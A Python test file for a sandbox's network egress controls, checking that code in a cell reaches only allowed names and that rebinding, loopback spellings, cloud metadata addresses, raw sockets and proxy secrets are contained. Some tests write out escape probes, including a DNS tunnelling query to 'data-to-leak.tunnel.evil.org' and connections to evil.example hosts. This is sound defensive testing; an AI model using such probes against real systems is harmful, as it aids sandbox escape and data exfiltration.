"""Names on the list resolve, and nothing else exists: what a program can try to reach others.

Servers of these tests are on the host's loopback, which a rule names.  Each test shows that the server
can be reached by the name that is allowed.
"""

import base64
import contextlib
import ipaddress
import os
import signal
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from cellwright import AuditLog, LaunchError, Sandbox, SandboxStatus
from cellwright.policies.network.rule import NetworkDenial, NetworkRule
from cellwright.policies.policy import Network, Policy, Processes
from cellwright.runner import channel
from cellwright.testing import inspect
from tests.conftest import OPTIONAL
from tests.network import (
    LOOPBACK,
    NAME,
    Server,
    answer_http,
    certificate,
    count_bytes,
    needs_openssl,
    policy,
    resolving,
    serving,
    tcp,
)

_TRY = """
import errno, socket, struct
def attempt(work):
    try:
        return work()
    except OSError as error:
        name = errno.errorcode.get(error.errno, type(error).__name__)
        return "ECONNRESET" if name == "ENOTCONN" else name  # of shutdown(2), once the reset has come
def reach(host, family=socket.AF_INET):
    with socket.socket(family) as sock:
        sock.settimeout(10)
        sock.connect((host, port))
        sock.sendall(b"12345")
        sock.shutdown(socket.SHUT_WR)
        return sock.recv(99).decode() or "nothing"
"""


@pytest.fixture
def server() -> Iterator[Server]:
    with serving(count_bytes) as server:
        yield server


@pytest.fixture
def box(server: Server, monkeypatch: pytest.MonkeyPatch) -> Iterator[Sandbox]:
    """Cells that may reach one name on one port."""
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    with Sandbox(policy=policy(tcp(server.port)), pool=0) as box:
        yield box


def value(box: Sandbox, server: Server, code: str, **inputs: object):  # type: ignore[no-untyped-def]
    result = box.execute(_TRY + code, inputs={"port": server.port, "NAME": NAME, **inputs})
    assert result.status is SandboxStatus.COMPLETED, result
    return result.value, result


def test_the_name_is_reached_and_the_connection_recorded(box: Sandbox, server: Server) -> None:
    found, result = value(
        box, server, "socket.create_connection((NAME, port)).close(); reach(NAME)"
    )
    assert found == "5"
    assert result.violations == ()
    connection = max(result.connections, key=lambda each: each.sent_bytes)
    assert (connection.name, connection.port, connection.address) == (
        NAME,
        server.port,
        "127.0.0.1",
    )
    assert (connection.sent_bytes, connection.received_bytes) == (5, 1)
    assert connection.outcome in ("ok", "the program had ended")  # whichever is seen first
    assert connection.rule == f"allow {NAME}:{server.port}"
    records = box.audit.get_entries() if box.audit else []
    told = [each for each in records if each.category == "network"]
    assert [(each.action, each.target) for each in told] == [
        ("connection", f"{NAME}:{server.port}")
    ] * 2
    assert sorted(each.details["sent_bytes"] for each in told) == [0, 5]
    assert {each.details["address"] for each in told} == {"127.0.0.1"}


ELSEWHERE = [
    "8.8.8.8", "10.0.0.1", "192.168.1.1", "169.254.169.254", "100.100.100.200", "224.0.0.1",
    "255.255.255.255", "198.17.255.255", "198.20.0.0", "::ffff:8.8.8.8", "2001:db8::1",
    "64:ff9b::808:808", "fd00:ec2::254",
]  # fmt: skip


def test_an_address_that_is_no_name_of_ours_has_no_route(box: Sandbox, server: Server) -> None:
    code = """
def family(host): return socket.AF_INET6 if ":" in host else socket.AF_INET
[reach(NAME), *(attempt(lambda: reach(host, family(host))) for host in hosts)]
"""
    found, result = value(box, server, code, hosts=ELSEWHERE)
    assert found == ["5"] + ["ENETUNREACH"] * len(ELSEWHERE)
    told = [each.arguments[0].rpartition(":")[0].strip("[]") for each in result.violations]
    assert list(map(ipaddress.ip_address, told)) == list(map(ipaddress.ip_address, ELSEWHERE))
    assert {(each.syscall, each.rule) for each in result.violations} == {
        ("connect", "network: no rule names an address")
    }


def test_a_connection_within_the_cell_is_no_violation(box: Sandbox, server: Server) -> None:
    code = """
def connected(to, host):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family) as listener:
        listener.settimeout(5)
        listener.bind((host, 0)); listener.listen()
        with socket.create_connection((to, listener.getsockname()[1])) as client:
            return listener.accept()[1][0]
pairs = [("127.0.0.1", "0.0.0.0"), ("127.8.0.1", "127.8.0.1"), ("0.0.0.0", "127.0.0.1"), ("::1", "::1"), ("::", "::"),
    ("127.0.0.1", "::"), ("::ffff:127.0.0.1", "127.0.0.1"), ("ip6-localhost", "::1"), ("localhost", "::1"), ("localhost", "127.0.0.1")]
[*(attempt(lambda: connected(*pair)) for pair in pairs), reach(NAME)]
"""
    found, result = value(box, server, code)
    v4, v6 = "127.0.0.1", "::1"
    assert found == [v4, "127.0.0.1", v4, v6, v6, "::ffff:127.0.0.1", v4, v6, v6, v4, "5"]
    assert "connect" not in {each.syscall for each in result.violations}


SPELLINGS = ["127.1", "2130706433", "0x7f.1", "0177.0.0.1", "0", "localhost", "127.0.0.1", "::1"]


def test_the_hosts_loopback_is_not_reached_however_it_is_written(
    box: Sandbox, server: Server
) -> None:
    code = "[reach(NAME), *(attempt(lambda: socket.create_connection((host, port), 10).recv(9)) for host in hosts)]"
    found, result = value(box, server, code, hosts=SPELLINGS)
    assert found == ["5"] + ["ECONNRESET"] * 7 + ["ECONNREFUSED"]
    assert server.connections == 1
    (violation,) = (each for each in result.violations if each.syscall == "connect")
    assert (violation.syscall, violation.arguments) == ("connect", ("localhost", str(server.port)))
    assert violation.count == 7


def test_an_address_of_the_range_without_a_name_leads_nowhere(box: Sandbox, server: Server) -> None:
    code = "[attempt(lambda: reach(host)) for host in ('198.18.0.0', '198.18.0.1', '198.18.0.2', '198.19.7.7')]"
    found, result = value(box, server, code)
    assert len(found) == 4
    assert set(found) == {"ECONNRESET"}
    assert server.connections == 0
    assert {each.rule for each in result.violations} == {"network: the address stands for no name"}


def test_a_port_that_no_rule_names_is_refused_by_the_kernel(box: Sandbox, server: Server) -> None:
    code = "attempt(lambda: socket.create_connection((NAME, port - 1 if port > 9999 else port + 1), 10))"
    assert value(box, server, code)[0] == "ECONNREFUSED"


def test_each_name_has_its_own_ports(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    resolving(monkeypatch, {NAME: [["127.0.0.1"]], "other.example.org": [["127.0.0.1"]]})
    with serving(count_bytes) as second:
        rules = tcp(server.port), tcp(second.port, "other.example.org")
        with Sandbox(policy=policy(*rules), pool=0) as box:
            code = "[reach(NAME), attempt(lambda: reach('other.example.org'))]"
            found, result = value(box, server, code)
        assert second.connections == 0
    assert found == ["5", "ECONNRESET"]
    assert server.connections == 1
    (violation,) = result.violations
    assert violation.arguments == ("other.example.org", str(server.port))
    assert "no rule allows port" in violation.rule


def test_a_name_that_no_rule_allows_does_not_exist(box: Sandbox, server: Server) -> None:
    names = [
        "evil.example.org",
        "example.org",
        f"x.{NAME}",
        f"{NAME}.evil.org",
        "notapi.example.org",
    ]
    code = """
def lookup(name):
    try: return socket.getaddrinfo(name, port)[0][4][0]
    except socket.gaierror as error: return error.args[0] == socket.EAI_NONAME
[lookup(name) for name in names]
"""
    found, result = value(box, server, code, names=names)
    assert found == [True] * len(names)
    refused = {each.arguments[0]: each.rule for each in result.violations}
    assert list(refused) == names
    assert all("no rule allows it" in rule for rule in refused.values())


def test_a_name_in_another_spelling_is_the_same_name(box: Sandbox, server: Server) -> None:
    code = "[attempt(lambda: reach(name)) for name in (NAME.upper(), NAME + '.')]"
    found, result = value(box, server, code)
    assert found == ["5", "5"]
    assert {each.name for each in result.connections} == {NAME}


def test_a_denial_wins_over_a_rule(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    resolving(monkeypatch, {NAME: [["127.0.0.1"]], "bad.example.org": [["127.0.0.1"]]})
    rules = Network(
        allow=(tcp(server.port, "*.example.org"),),
        deny=(NetworkDenial(host="bad.example.org"),),
        addresses=(LOOPBACK,),
    )
    import msgspec

    given = msgspec.structs.replace(policy(tcp(server.port)), network=rules)
    with Sandbox(policy=given, pool=0) as box:
        code = "[attempt(lambda: reach(name)) for name in (NAME, 'bad.example.org')]"
        found, result = value(box, server, code)
    assert found[0] == "5"
    assert found[1] != "5"
    assert result.violations[0].arguments == ("bad.example.org",)
    assert server.connections == 1


def test_a_name_is_resolved_once_and_its_answer_is_vetted(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rebinding: the first answer may be dialled, the second is another host's loopback."""
    resolving(
        monkeypatch,
        {
            NAME: [["127.0.0.1"]],
            "rebound.example.org": [["127.0.0.1"], ["127.0.1.1"]],
            "mixed.example.org": [["127.0.0.1", "10.0.0.1"]],
            "metadata.example.org": [["169.254.169.254"]],
            "mapped.example.org": [["::ffff:127.0.1.1"]],
        },
    )
    rule = tcp(server.port, "*.example.org")
    with Sandbox(policy=policy(rule, addresses=("127.0.0.1/32", "169.254.0.0/16")), pool=0) as box:
        names = ["rebound", "rebound", "mixed", "metadata", "mapped"]
        code = "[attempt(lambda: reach(name + '.example.org')) for name in names]"
        found, result = value(box, server, code, names=names)
    assert found == ["5"] + ["ECONNRESET"] * 4
    assert server.connections == 1
    whys = [each.rule for each in result.violations]
    assert [why.split()[1] for why in whys] == [
        "127.0.1.1", "10.0.0.1", "169.254.169.254", "::ffff:7f00:101",
    ]  # fmt: skip


def test_a_private_address_needs_a_rule_that_names_it(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    with Sandbox(policy=policy(tcp(server.port), addresses=()), pool=0) as box:
        found, result = value(box, server, "attempt(lambda: reach(NAME))")
    assert found == "ECONNRESET"
    assert "loopback" in result.violations[0].rule
    assert server.connections == 0


def test_there_is_no_udp_and_so_no_quic(box: Sandbox, server: Server) -> None:
    code = """
def datagram(host, to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(10)
        sock.connect((host, to))
        sock.send(b"x")
        return sock.recv(99)
[attempt(lambda: datagram(host, to)) for host, to in ((NAME, port), (NAME, 443), ("8.8.8.8", 53))]
"""
    assert value(box, server, code)[0] == ["ECONNREFUSED", "ECONNREFUSED", "ENETUNREACH"]


def test_sockets_of_other_kinds_are_refused(box: Sandbox, server: Server) -> None:
    code = """
kinds = [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0),
    (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_INET, socket.SOCK_DGRAM, 1),
    (socket.AF_NETLINK, socket.SOCK_RAW, 12), (socket.AF_VSOCK, socket.SOCK_STREAM, 0)]
[reach(NAME), *(attempt(lambda: socket.socket(*kind)) for kind in kinds)]
"""
    found, _ = value(box, server, code)
    assert found == ["5", "EPERM", "EAFNOSUPPORT", "EPERM", "EPERM", "EAFNOSUPPORT", "EAFNOSUPPORT"]


def test_data_in_the_first_packet_goes_where_a_connection_goes(
    box: Sandbox, server: Server
) -> None:
    code = """
def fast(host):
    with socket.socket() as sock:
        sock.sendto(b"123", socket.MSG_FASTOPEN, (host, port))
        sock.shutdown(socket.SHUT_WR)
        return sock.recv(99).decode()
[attempt(lambda: fast(host)) for host in (NAME, "8.8.8.8", "198.18.9.9")]
"""
    found, _ = value(box, server, code)
    assert found[:2] == ["3", "ENETUNREACH"]
    assert found[2] == "ECONNRESET"


def test_the_ports_of_the_egress_process_cannot_be_taken(box: Sandbox, server: Server) -> None:
    code = """
def take(host, to, kind, *options):
    with socket.socket(socket.AF_INET, kind) as sock:
        for option in options:
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        sock.bind((host, to))
        if kind == socket.SOCK_STREAM: sock.listen()
        return "taken"
found = []
for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,)):
    for host in ("0.0.0.0", "127.0.0.1", "198.18.0.2", socket.gethostbyname(NAME)):
        found.append(attempt(lambda: take(host, port, socket.SOCK_STREAM, *options)))
    found.append(attempt(lambda: take("127.0.0.53", 53, socket.SOCK_DGRAM, *options)))
    found.append(attempt(lambda: take("0.0.0.0", 53, socket.SOCK_STREAM, *options)))
[*found, reach(NAME), take("127.0.0.1", 0, socket.SOCK_STREAM)]
"""
    found, _ = value(box, server, code)
    refused = ["EADDRINUSE"] * 4 + ["EACCES"] * 2
    assert found == [*refused * 3, "5", "taken"]


def test_a_cell_has_none_of_the_sockets_and_no_power_over_its_interface(
    box: Sandbox, server: Server
) -> None:
    code = """
import fcntl, os
def configure(request, words):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return fcntl.ioctl(sock, request, struct.pack("=16s16s8x", b"lo:1", words))
address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", 0, socket.inet_aton("8.8.8.8"))
open_now = sorted(map(int, os.listdir("/proc/self/fd")))
[open_now[:4], len(open_now), attempt(lambda: configure(0x8916, address)), reach(NAME)]
"""
    found, _ = value(box, server, code)
    assert found == [[0, 1, 2, 3], 5, "ENOTTY", "5"]


def test_a_connection_that_was_passed_on_leads_where_it_did(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A descriptor is only a connection: the cell has no socket that could reach anything else."""
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    given = policy(tcp(server.port), processes=Processes(subprocesses=True))
    code = """
import os
ours, theirs = socket.socketpair()
if os.fork() == 0:
    sock = socket.create_connection((NAME, port))
    socket.send_fds(theirs, [b"x"], [sock.fileno()])
    os._exit(0)
_, (descriptor,), _, _ = socket.recv_fds(ours, 1, 1)
with socket.socket(fileno=descriptor) as sock:
    is_ours = sock.getpeername()[0].startswith("198.18.")
    sock.sendall(b"123456"); sock.shutdown(socket.SHUT_WR)
    found = [sock.recv(99).decode(), is_ours]
found
"""
    with Sandbox(policy=given, pool=0) as box:
        found, _ = value(box, server, code)
    assert found == ["6", True]


_DNS = """
def ask(message, kind=socket.SOCK_DGRAM):
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.settimeout(10)
        sock.connect(("127.0.0.53", 53))
        if kind == socket.SOCK_STREAM:
            sock.sendall(struct.pack("!H", len(message)) + message)
            size = sock.recv(2, socket.MSG_WAITALL)
            return sock.recv(int.from_bytes(size, "big"), socket.MSG_WAITALL) if size else b""
        sock.send(message)
        return sock.recv(4096)
def question(name, kind=1):
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return struct.pack("!6H", 9, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", kind, 1)
def told(answer): return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
"""


def test_dns_answers_with_our_addresses_alone(box: Sandbox, server: Server) -> None:
    code = (
        _DNS
        + """
found = [told(ask(question(NAME, kind))) for kind in (1, 28, 16, 65, 255, 252)]
found += [told(ask(question(NAME), socket.SOCK_STREAM)), told(ask(question("a.b.evil.org"), socket.SOCK_STREAM))]
found += [told(ask(struct.pack("!6H", 9, 0x100, 1, 0, 0, 0) + b"\\xc0\\x0c" + b"\\0\\1\\0\\1"))]
found += [told(ask(question("data-to-leak.tunnel.evil.org", 16)))]
found
"""
    )
    found, result = value(box, server, code)
    no_such_name, not_implemented = [3, 0], [4, 0]
    assert found == [
        [0, 1], [0, 0], [0, 0], [0, 0], not_implemented, not_implemented,
        [0, 1], no_such_name, [1, 0], no_such_name,
    ]  # fmt: skip
    names = {each.arguments for each in result.violations}
    assert ("data-to-leak.tunnel.evil.org",) in names


def test_a_query_that_is_too_long_gets_no_answer(box: Sandbox, server: Server) -> None:
    code = (
        _DNS
        + "[attempt(lambda: ask(question(NAME) + bytes(600), socket.SOCK_STREAM) == b''), reach(NAME)]"
    )
    found, result = value(box, server, code)
    assert found[0] in (True, "ECONNRESET")
    assert found[1] == "5"
    assert "bytes" in result.violations[0].rule


def test_many_names_of_a_wildcard_keep_a_connection_where_it_is(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Poisoning of the map: a new name must not get the address of one that has a connection."""
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    shim_names = 40
    import cellwright.runner.egress.addresses as addresses
    from tests.faults.injection import shim

    assert shim_names < addresses.MOST_NAMES
    shim(
        "m=sys.modules.get('cellwright.runner.egress.addresses');"
        f"m and setattr(m.SyntheticAddresses.__init__,'__defaults__',({shim_names},));",
        monkeypatch,
    )
    code = """
sock = socket.create_connection((NAME, port))
held = sock.getpeername()[0]
seen = {socket.gethostbyname(f"n{n}.example.org") for n in range(100)}
sock.sendall(b"1"); sock.shutdown(socket.SHUT_WR)
[held in seen, len(seen), sock.recv(9).decode(), reach(held), attempt(lambda: reach(min(seen)))]
"""
    with Sandbox(policy=policy(tcp(server.port, "*.example.org")), pool=0) as box:
        found, _ = value(box, server, code)
    assert found == [False, 100, "1", "5", "ECONNRESET"]


# The scheme https, which is the default


@pytest.fixture
def tls(tmp_path: Path) -> Iterator[tuple[Server, str]]:
    """A server of TLS with two names, and the certificate that clients trust."""
    cert, context = certificate(tmp_path, NAME, "other.example.org")
    with serving(count_bytes, context) as server:
        yield server, cert.read_text()


_TLS = (
    _TRY
    + """
import ssl
context = ssl.create_default_context(cadata=trusted)
context.check_hostname = False
def encrypted(name, asked):
    with context.wrap_socket(socket.create_connection((name, port), 10), server_hostname=asked) as sock:
        sock.sendall(b"12345")
        return "sent"
"""
)


@pytest.fixture
def proxied(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[Policy, list[bytes]]]:
    """A policy with the host's proxy, which leads to the server, and what the proxy was asked."""
    asked: list[bytes] = []

    def serve(sock: socket.socket) -> None:
        asked.append(sock.recv(65536))
        if b"CONNECT refused" in asked[-1]:
            sock.sendall(b"HTTP/1.1 403 Forbidden\r\n\r\n")
            return
        with socket.create_connection(("127.0.0.1", server.port)) as target:
            sock.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
            while data := sock.recv(65536):
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)
            sock.sendall(target.recv(65536))

    # The names of cells cannot be resolved here: the proxy does that.
    resolving(monkeypatch, {"proxy.example": [["127.0.0.1"]]})
    with serving(serve) as proxy:
        url = f"http://someone:S3CR3T@proxy.example:{proxy.port}"
        monkeypatch.setenv("HTTPS_PROXY", url)
        rules = (tcp(server.port), tcp(server.port, "refused.example.org"))
        network = Network(allow=rules, proxy="environment")
        yield Policy(name="proxied", network=network, optional_layers=OPTIONAL), asked


def test_connections_go_through_the_hosts_proxy_if_the_policy_says_so(
    proxied: tuple[Policy, list[bytes]], server: Server, tmp_path: Path
) -> None:
    given, asked = proxied
    code = (
        "[reach(NAME), attempt(lambda: reach('refused.example.org')),"
        " attempt(lambda: reach('evil.example'))]"
    )
    with (
        AuditLog(path=tmp_path / "trail") as trail,
        Sandbox(policy=given, pool=0, audit=trail) as box,
    ):
        found, result = value(box, server, code)
        process = Path("/proc", str(inspect(box).egress_pid()))
        processes = (process / "cmdline").read_bytes()
        with contextlib.suppress(PermissionError):  # only root may read it
            processes += (process / "environ").read_bytes()
    assert found == ["5", "ECONNRESET", "gaierror"]
    assert [line.split(b"\r\n")[0] for line in asked] == [
        f"CONNECT {NAME}:{server.port} HTTP/1.1".encode(),
        f"CONNECT refused.example.org:{server.port} HTTP/1.1".encode(),
    ]
    assert base64.b64encode(b"someone:S3CR3T") in asked[0]
    outcomes = {each.name: each.outcome for each in result.connections}
    assert outcomes == {NAME: "ok", "refused.example.org": "the proxy refused: 403"}
    told = repr(result).encode() + (tmp_path / "trail").read_bytes() + processes
    for secret in (b"S3CR3T", base64.b64encode(b"someone:S3CR3T")):
        assert secret not in told


def test_without_its_proxy_nothing_is_dialled(
    proxied: tuple[Policy, list[bytes]], server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://someone:S3CR3T@")
    given, _ = proxied
    with (
        Sandbox(policy=given, pool=0) as box,
        pytest.raises(LaunchError, match=r"network\.proxy") as caught,
    ):
        value(box, server, "reach(NAME)")
    assert "S3CR3T" not in str(caught.value)
    assert server.connections == 0


def test_each_request_over_plain_http_needs_its_method_and_path(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Also a later one of the same connection, in whatever pieces, and with another Host."""
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    with serving(answer_http) as server:
        rule = NetworkRule(
            host=NAME, ports=(server.port,), schemes=("http",), methods=("GET",), paths=("/a/*",)
        )
        with Sandbox(policy=policy(rule), pool=0) as box:
            result = box.execute(
                """
import http.client
def ask(client, method, path, **headers):
    try:
        client.request(method, path, headers=headers)
        answer = client.getresponse()
        return answer.status, answer.read().decode().strip()
    except (OSError, http.client.HTTPException) as error:
        return type(error).__name__
def connected():
    return http.client.HTTPConnection(name, port, timeout=20)
kept = connected()
[
    ask(kept, "GET", "/a/b?c"), ask(kept, "GET", "/a/d"), ask(kept, "GET", "/b"),
    ask(connected(), "POST", "/a/b"), ask(connected(), "GET", "/a/b", Host="other.example"),
    ask(connected(), "GET", "/a/../b"),
]
""",
                inputs={"name": NAME, "port": server.port},
            )
    assert result.value, result
    assert list(map(tuple, result.value[:2])) == [(200, "/a/b?c"), (200, "/a/d")]
    assert [status for status, _ in result.value[2:]] == [403] * 4
    assert server.connections == 1  # nothing outside is connected to for the others
    assert sorted(each.rule for each in result.violations) == sorted(
        f"network: {why}"
        for why in (
            f"{NAME}: no rule allows GET of this path",
            f"{NAME}: no rule allows POST of this path",
            "the header Host is 'other.example'",
            f"{NAME}: no rule allows GET of this path, which has a dot segment",
        )
    )
    assert sum(each.received_bytes > 0 for each in result.connections) == 1


@needs_openssl
def test_tls_must_ask_for_the_name_that_was_resolved(
    tls: tuple[Server, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    server, trusted = tls
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    given = policy(NetworkRule(host=NAME, ports=(server.port,)))
    code = """
def plain():
    with socket.create_connection((NAME, port), 10) as sock:
        sock.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n")
        return sock.recv(9)
[attempt(lambda: encrypted(NAME, asked)) for asked in (NAME, NAME.upper(), "other.example.org", None)] + [attempt(plain)]
"""
    with Sandbox(policy=given, pool=0) as box:
        result = box.execute(
            _TLS + code, inputs={"port": server.port, "NAME": NAME, "trusted": trusted}
        )
    assert result.value[:2] == ["sent", "sent"], result
    assert result.value[2:] == ["ECONNRESET"] * 3
    assert server.connections == 2
    assert [each.rule for each in result.violations] == [
        "network: the server name (SNI) is 'other.example.org'",
        "network: no server name (SNI)",
        "network: not TLS",
    ]


def test_connections_that_a_closed_session_had_open_are_in_the_trail(
    box: Sandbox, server: Server
) -> None:
    with box.session() as session:
        code = "sock = socket.create_connection((NAME, port)); sock.sendall(b'12345')"
        opened = session.execute(_TRY + code, inputs={"port": server.port, "NAME": NAME})
        assert (opened.reason, opened.connections) == ("exit", ()), opened
    assert box.audit
    entries = box.audit.get_entries()
    told = [each for each in entries if each.category in ("network", "violation")]
    assert [(each.target, each.details["session_id"]) for each in told] == [
        (f"{NAME}:{server.port}", session.id)
    ]


def test_a_crash_of_the_egress_process_opens_nothing(box: Sandbox, server: Server) -> None:
    with box.session() as session:
        given = {"port": server.port, "NAME": NAME}
        opened = session.execute(
            _TRY + "sock = socket.create_connection((NAME, port)); reach(NAME)", inputs=given
        )
        assert opened.value == "5"
        pid = inspect(box).egress_pid()
        assert pid
        os.kill(pid, signal.SIGKILL)
        after = session.execute(
            "[attempt(lambda: sock.recv(9).decode()), attempt(lambda: reach(NAME))]"
        )
    assert after.value[0] in ("ECONNRESET", ""), after
    assert after.value[1] == "gaierror"
    told = [each for each in after.violations if each.syscall == "egress"]
    assert len(told) == 1
    found, result = value(box, server, "reach(NAME)")  # of another cell, by another process
    assert (found, result.violations) == ("5", ())
    assert inspect(box).egress_pid() != pid


def test_a_parked_cell_without_its_egress_process_is_not_used(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    with Sandbox(policy=policy(tcp(server.port)), pool=2) as box:
        box.settle()
        pid = inspect(box).egress_pid()
        assert pid
        ended = os.pidfd_open(pid)
        os.kill(pid, signal.SIGKILL)
        assert channel.has_news(ended, 10)
        os.close(ended)
        found, result = value(box, server, "reach(NAME)")
        assert (found, result.violations) == ("5", ())


def test_connections_end_with_their_cell(box: Sandbox, server: Server) -> None:
    found, result = value(
        box, server, "kept = [socket.create_connection((NAME, port)) for _ in range(20)]; len(kept)"
    )
    assert found == 20
    assert len(result.connections) == 20
    assert {each.outcome for each in result.connections} <= {"ok", "the program had ended"}


def test_what_a_program_sent_last_arrives(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    with Sandbox(policy=policy(tcp(server.port)), pool=0) as box:
        _, result = value(
            box, server, "socket.create_connection((NAME, port)).sendall(b'x' * 100_000); 1"
        )
    assert [each.sent_bytes for each in result.connections] == [100_000]


@pytest.mark.parametrize(
    ("caps", "code", "told"),
    [
        ({"sent_bytes": 10}, "attempt(lambda: reach(NAME)), attempt(lambda: (reach(NAME), reach(NAME)))", "more than 10 bytes sent"),
        ({"received_bytes": 1}, "attempt(lambda: reach(NAME)), attempt(lambda: reach(NAME))", "more than 1 bytes received"),
        ({"connections": 1}, "kept = socket.create_connection((NAME, port)); kept.send(b'x'); [attempt(lambda: reach(NAME)) for _ in range(2)]", "more than 1 connections at a time"),
        ({"connections_per_second": 0.001}, "[attempt(lambda: reach(NAME)) for _ in range(2)]", "connections a second"),
    ],
    ids=lambda given: str(given)[:20],
)  # fmt: skip
def test_a_cap_of_a_rule_holds(
    caps: dict[str, float], code: str, told: str, server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    resolving(monkeypatch, {NAME: [["127.0.0.1"]]})
    with Sandbox(policy=policy(tcp(server.port, **caps)), pool=0) as box:
        found, result = value(box, server, code)
    assert found[-1] == "ECONNRESET", found
    assert any(told in each.rule for each in result.violations)


_WAITING = """
import time
def waiting(least):  # sockets in TIME_WAIT, net/tcp_states.h, once the other end has closed as well
    end, found = time.monotonic() + 10, -1
    while found < least and time.monotonic() < end:
        found = sum(line.split()[3] == "06" for line in open("/proc/self/net/tcp").readlines()[1:])
    return found
"""


def test_connections_in_time_wait_end_with_their_cell(box: Sandbox, server: Server) -> None:
    flood = f"{_WAITING}seen = {{reach(NAME) for _ in range(40)}}\n[waiting(40), *seen]"
    assert value(box, server, flood)[0] == [40, "5"]
    assert value(box, server, f"{_WAITING}[waiting(0), reach(NAME), waiting(1)]")[0] == [0, "5", 1]


def test_without_rules_there_is_no_process_and_no_socket() -> None:
    from tests.conftest import policy_named

    with Sandbox(policy=policy_named("standard"), pool=0) as box:
        result = box.execute(
            "import socket\ntry: socket.create_connection(('127.0.0.53', 53))\nexcept OSError as error: found = error.errno\nfound"
        )
        assert result.value == 111  # ECONNREFUSED: lo is on, and nothing listens
        assert inspect(box).egress_pid() is None
        assert inspect(box).plan.network is None


def test_the_egress_process_is_confined(box: Sandbox, server: Server) -> None:
    assert value(box, server, "reach(NAME)")[0] == "5"
    pid = inspect(box).egress_pid()
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    status = {name: text.split() for name, _, text in (line.partition(":") for line in lines)}
    assert status["Name"] == ["cell-egress"]
    assert (status["NoNewPrivs"], status["Seccomp"]) == (["1"], ["2"])
    assert {status[each][0] for each in ("CapInh", "CapPrm", "CapEff", "CapAmb")} == {"0" * 16}
    assert "0" not in status["Uid"]
    for thread in Path(f"/proc/{pid}/task").iterdir():
        assert "Seccomp:\t2" in (thread / "status").read_text()
